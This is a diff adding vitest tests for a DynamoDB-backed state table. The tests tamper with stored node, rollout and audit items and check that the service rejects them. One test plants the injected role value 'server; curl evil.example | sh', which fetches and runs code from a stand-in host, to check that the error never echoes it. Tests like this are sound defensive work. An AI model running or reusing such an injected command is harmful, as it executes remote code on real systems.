@@ -1,8 +1,9 @@
 import type { DynamoDBClient } from '@aws-sdk/client-dynamodb';
-import { PutCommand } from '@aws-sdk/lib-dynamodb';
+import { GetCommand, PutCommand } from '@aws-sdk/lib-dynamodb';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createStateTable, startDynamo } from '../../local/aws/dynamodb';
 import type { AttemptRecord, RolloutRecord, WaveRecord } from '../../shared/rollout/model';
+import { CorruptItemError } from '../../shared/state/dynamodb/items';
 import { StateTable } from '../../shared/state/table';
 import {
   attemptOf,
@@ -139,5 +140,80 @@ describe('state table on dynalite', () => {
 
     expect(heldBack.reads).toBeGreaterThan(0);
     expect(read).toEqual(attempts);
+  });
+});
+
+describe('state table items changed behind the service', () => {
+  const node = { cluster: 'prod', instanceId: instanceIds(1)[0]!, role: 'client' as const, ip: '10.0.0.7' };
+
+  /** Overwrite one attribute of a stored item, as a principal with table write access could. */
+  async function tamper(table: StateTable, sk: string, changes: Record<string, unknown>): Promise<void> {
+    const client = dynamo.client();
+    const { Item } = await client.send(
+      new GetCommand({ TableName: table.tableName, Key: { pk: 'CLUSTER#prod', sk } }),
+    );
+    await client.send(new PutCommand({ TableName: table.tableName, Item: { ...Item, ...changes } }));
+  }
+
+  it('refuses a node whose role was rewritten, naming the field and never the planted value', async () => {
+    const table = await freshTable();
+    await table.addNode(node, NOW);
+    await tamper(table, `NODE#${node.instanceId}`, { role: 'server; curl evil.example | sh' });
+
+    const reads = [
+      () => table.getNode('prod', node.instanceId),
+      () => table.getNodes('prod', [node.instanceId]),
+      () => table.listNodes('prod'),
+      () => table.updateNode('prod', node.instanceId, { status: 'idle' }, { lastAction: 'sync' }, NOW + 1),
+    ];
+
+    for (const read of reads) {
+      const error = await read().then(
+        () => undefined,
+        (thrown: unknown) => thrown,
+      );
+      expect(error).toBeInstanceOf(CorruptItemError);
+      const corrupt = error as CorruptItemError;
+      expect(corrupt.retryable).toBe(false);
+      expect(corrupt.message).toContain(`NODE#${node.instanceId}`);
+      expect(corrupt.issues.join()).toMatch(/^role: /);
+      expect(corrupt.message).not.toContain('evil');
+    }
+  });
+
+  it('refuses a node record copied under another node, whose certificates it would otherwise claim', async () => {
+    const table = await freshTable();
+    const [first, second] = instanceIds(2);
+    await table.addNode({ ...node, instanceId: first!, role: 'server' }, NOW);
+    await table.addNode({ ...node, instanceId: second! }, NOW);
+    await tamper(table, `NODE#${second}`, { instanceId: first, role: 'server' });
+
+    await expect(table.getNode('prod', second!)).rejects.toThrow(
+      /NODE#i-\w+ fails its checks: the record differs from the one its sort key names/,
+    );
+    expect((await table.getNode('prod', first!))?.role).toBe('server');
+  });
+
+  it('refuses a rollout whose attempt was pushed to an unknown state or an unbounded wave position', async () => {
+    const table = await freshTable();
+    const [started, waves, attempts] = largeRollout(3);
+    await table.startRollout(started, waves, attempts);
+    await tamper(table, `ROLLOUT#r-1#ATTEMPT#${attempts[0]!.target}`, { state: 'approved' });
+    await tamper(table, 'ROLLOUT#r-1', { currentWave: 7 });
+
+    await expect(table.listAttempts('prod', 'r-1')).rejects.toThrow(/state: /);
+    await expect(table.getActiveRollout('prod')).rejects.toThrow(/currentWave: must be at most waveCount/);
+    await expect(table.listRollouts('prod')).rejects.toBeInstanceOf(CorruptItemError);
+  });
+
+  it('refuses an audit entry of another cluster filed under this one', async () => {
+    const table = await freshTable();
+    const entry = { cluster: 'prod', at: NOW, id: 'a1', action: 'rotate', actor: 'schedule' };
+    await table.audit(entry);
+    await tamper(table, `AUDIT#${new Date(NOW).toISOString()}#a1`, { cluster: 'staging' });
+
+    await expect(table.listAudit('prod', NOW)).rejects.toThrow(
+      /cluster: differs from the cluster of its key/,
+    );
   });
 });
